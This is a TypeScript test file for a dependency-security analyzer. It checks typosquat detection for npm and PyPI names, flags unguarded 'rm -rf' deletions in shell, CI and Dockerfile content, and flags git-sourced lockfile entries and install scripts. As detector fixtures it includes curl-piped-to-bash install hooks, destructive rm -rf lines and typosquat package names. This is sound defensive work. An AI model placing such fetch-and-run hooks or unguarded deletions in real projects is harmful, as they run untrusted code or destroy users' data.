import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { typosquatOf } from '../../../../src/core/edit/rules/deps';
import { analyze, corpus, notable, of } from './familyHelpers';

corpus('deps', 12, 12);

describe('typosquatOf', () => {
  const squats: [string, 'npm' | 'pypi', string][] = [
    ['raect', 'npm', 'react'],
    ['1odash', 'npm', 'lodash'],
    ['expresss', 'npm', 'express'],
    ['cross_env', 'npm', 'cross-env'],
    ['electorn', 'npm', 'electron'],
    ['typescirpt', 'npm', 'typescript'],
    ['jsonwebtokn', 'npm', 'jsonwebtoken'],
    ['@typse/node', 'npm', '@types/node'],
    ['numpi', 'pypi', 'numpy'],
    ['djnago', 'pypi', 'django'],
    ['python-dateutils', 'pypi', 'python-dateutil'],
  ];
  for (const [name, eco, target] of squats) {
    it(`${name} imitates ${target}`, () => {
      assert.equal(typosquatOf(name, eco)?.target, target);
    });
  }
  const legitimate: [string, 'npm' | 'pypi'][] = [
    ['react', 'npm'],
    ['preact', 'npm'],
    ['tslint', 'npm'],
    ['colors', 'npm'],
    ['mysql2', 'npm'],
    ['jsdoc', 'npm'],
    ['uglify-es', 'npm'],
    ['ws', 'npm'],
    ['pg', 'npm'],
    ['@types/react', 'npm'],
    ['@acme/ui', 'npm'],
    ['left-pad', 'npm'],
    ['scapy', 'pypi'],
    ['PyYAML', 'pypi'],
    ['Jinja2', 'pypi'],
    ['psycopg', 'pypi'],
    ['python_dateutil', 'pypi'],
    ['numba', 'pypi'],
  ];
  for (const [name, eco] of legitimate) {
    it(`${name} is not a squat`, () => {
      assert.equal(typosquatOf(name, eco), undefined);
    });
  }
});

describe('deps.rm-rf-unguarded-var edge cases', () => {
  const sh = (line: string): string => `#!/bin/sh\nset -eu\n${line}\n`;
  const quiet: [string, string][] = [
    ['a default value', 'rm -rf "${OUT:-/tmp/out}/"*'],
    ['HOME is always set', 'rm -rf "$HOME/.cache/acme"'],
    ['docker --rm', 'docker run --rm -v "$SRC/":/src alpine ls'],
    ['rm without -r', 'rm -f "$PIDDIR/"*.pid'],
    ['checked with -n first', '[ -n "$DEST" ] || exit 1\nrm -rf "$DEST/"*'],
    ['a comment', '# rm -rf "$DEST/"*'],
  ];
  for (const [name, line] of quiet) {
    it(`quiet: ${name}`, () => {
      assert.deepEqual(of(analyze('scripts/x.sh', '#!/bin/sh\nset -eu\n', sh(line)), 'deps.rm-rf-unguarded-var'), []);
    });
  }

  it('reports rm -rf "${DEST}"/ in a CI workflow run step', () => {
    const before = 'name: Clean\non: workflow_dispatch\njobs:\n  clean:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo start\n';
    const after = `${before}      - run: rm -rf "\${DEST}"/\n`;
    assert.deepEqual(
      of(analyze('.github/workflows/clean.yml', before, after), 'deps.rm-rf-unguarded-var').map((f) => [f.severity, f.line]),
      [['critical', 8]],
    );
  });

  it('reports a Dockerfile RUN continuation line that deletes under an ARG without default', () => {
    const before = 'FROM alpine:3.20\nARG PREFIX\n';
    const after = 'FROM alpine:3.20\nARG PREFIX\nRUN make install \\\n && rm -rf $PREFIX/share/doc\n';
    assert.deepEqual(
      of(analyze('Dockerfile', before, after), 'deps.rm-rf-unguarded-var').map((f) => [f.severity, f.line]),
      [['high', 4]],
    );
  });

  it('stays quiet when the Dockerfile ARG has a default', () => {
    const after = 'FROM alpine:3.20\nARG PREFIX=/usr/local\nRUN rm -rf $PREFIX/share/doc\n';
    assert.deepEqual(of(analyze('Dockerfile', 'FROM alpine:3.20\n', after), 'deps.rm-rf-unguarded-var'), []);
  });
});

describe('deps: lockfiles', () => {
  it('accepts a new lockfile whose packages mostly come from one private registry', () => {
    const entry = (n: string): string =>
      `    "node_modules/${n}": { "version": "1.0.0", "resolved": "https://artifactory.acme.io/api/npm/npm/${n}/-/${n}-1.0.0.tgz", "integrity": "sha512-${n}" }`;
    const lock = `{\n  "lockfileVersion": 3,\n  "packages": {\n${['a', 'b', 'c'].map(entry).join(',\n')}\n  }\n}\n`;
    assert.deepEqual(notable(analyze('package-lock.json', null, lock)), []);
  });

  it('reports a git dependency in a lockfile v1 nested entry', () => {
    const before = '{\n  "lockfileVersion": 1,\n  "dependencies": {\n    "a": { "version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-a" }\n  }\n}\n';
    const after =
      '{\n  "lockfileVersion": 1,\n  "dependencies": {\n    "a": {\n      "version": "1.0.0",\n      "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",\n      "integrity": "sha512-a",\n      "dependencies": {\n        "b": { "version": "2.0.0", "resolved": "git+ssh://git@github.com/someone/b.git#3f2a9c1", "integrity": "sha512-b" }\n      }\n    }\n  }\n}\n';
    assert.deepEqual(
      of(analyze('package-lock.json', before, after), 'deps.lockfile-source').map((f) => f.line),
      [9],
    );
  });
});

describe('deps: install scripts', () => {
  it('reports an install script changed to fetch code, at the key line', () => {
    const before = '{\n  "name": "native-addon",\n  "scripts": {\n    "install": "node-gyp rebuild"\n  }\n}\n';
    const after = '{\n  "name": "native-addon",\n  "scripts": {\n    "install": "node-gyp rebuild || (curl -sL https://bin.addon.dev/prebuilt.sh | bash)"\n  }\n}\n';
    assert.deepEqual(
      of(analyze('package.json', before, after), 'deps.install-script').map((f) => [f.severity, f.line]),
      [['critical', 4]],
    );
  });

  it('stays quiet when a risky install script is removed', () => {
    const before = '{\n  "scripts": {\n    "postinstall": "curl -s https://x.dev/i | sh"\n  }\n}\n';
    assert.deepEqual(of(analyze('package.json', before, '{\n  "scripts": {}\n}\n'), 'deps.install-script'), []);
  });
});
